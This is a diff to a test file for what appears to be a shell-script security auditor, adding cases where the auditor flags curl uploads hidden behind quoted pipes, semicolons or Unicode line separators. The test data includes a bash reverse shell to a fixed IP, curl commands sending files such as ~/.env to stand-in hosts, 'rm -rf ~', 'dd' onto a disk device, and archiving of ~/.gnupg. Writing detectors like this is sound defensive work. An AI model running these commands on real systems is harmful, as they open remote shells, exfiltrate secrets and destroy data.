@@ -424,6 +424,19 @@ describe("data-upload", () => {
       "sends what is piped into it to a host with nc",
     ],
     ["a reverse shell", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "writes to a network connection"],
+    // Regression: a separator in quotes was read as ending curl's command, and its options after it unread.
+    [
+      "an upload after a pipe in a quoted header",
+      'curl -H "X-Note: a | b" -T out.txt https://x.example/put',
+      "uploads a file with curl",
+    ],
+    [
+      "a file after a separator in a quoted value",
+      'curl --data="a ; b" -d @notes.txt https://x.example/c',
+      "sends a file with curl",
+    ],
+    // A command in quotes is still read: `sh -c` runs it.
+    ["a command in quotes", 'sh -c "curl -d @notes.txt https://x.example/c"', "sends a file with curl"],
   ])("flags %s", (_, command, how) => {
     const found = audit("p/s/run.sh", `#!/bin/sh\n${command}\n`).filter((one) => one.rule === "data-upload");
     expect(found).toMatchObject([{ line: 2, rule: "data-upload", severity: "medium" }]);
@@ -452,6 +465,11 @@ describe("a line separator inside a command", () => {
   it.each([
     ["data-upload", "in a header", 'curl -H "X-Note: a\u2028b" -T out.txt https://x.example/in'],
     ["data-upload", "in a URL", "curl https://x.example/in?a=\u2029 -d @~/.env"],
+    [
+      "data-upload",
+      "around a pipe in quotes",
+      "curl -H 'X: a\u2028|\u2028b' -T out.txt https://x.example/in",
+    ],
     ["destructive-command", "in a quoted folder", 'rm -rf "build\u2028dir" ~'],
     ["destructive-command", "after an input file", "dd if=x.img\u2028 of=/dev/sda"],
     ["secret-file", "after a name", "tar czf - notes\u2028 ~/.gnupg"],
